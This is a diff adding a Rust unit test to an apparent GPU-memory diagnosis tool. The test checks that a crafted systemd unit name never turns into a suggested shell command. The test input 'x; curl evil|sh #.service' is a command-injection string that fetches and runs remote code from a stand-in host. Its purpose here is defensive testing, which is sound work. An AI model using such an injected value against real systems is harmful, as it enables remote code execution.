@@ -1191,3 +1191,32 @@ fn every_reset_blocker_gets_the_command_that_clears_it() {
         Some("vramguard reclaim --gpu 1 --reset=auto")
     );
 }
+
+#[test]
+fn a_unit_name_built_to_be_pasted_into_a_shell_is_never_suggested_as_a_command() {
+    let hostengine = |unit: &str| {
+        let mut d = proc_(60, 1, 60, "nv-hostengine", &[1]);
+        d.uid = Some(0);
+        d.exe = Some(root_exe("/usr/bin/nv-hostengine"));
+        d.device_files = FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl]);
+        d.cgroup = Some(format!("/system.slice/{unit}"));
+        let s = snapshot(vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])], vec![init(), d]);
+        diagnose(classify(&s, &Policy::default()))
+            .verdict
+            .next_steps
+    };
+    let plain = hostengine("nvidia-dcgm.service");
+    assert!(
+        plain
+            .iter()
+            .any(|s| s.command.as_deref() == Some("systemctl stop nvidia-dcgm.service")),
+        "{plain:#?}"
+    );
+    let hostile = hostengine("x; curl evil|sh #.service");
+    assert!(
+        hostile
+            .iter()
+            .all(|s| !s.command.as_deref().unwrap_or("").contains("curl")),
+        "{hostile:#?}"
+    );
+}
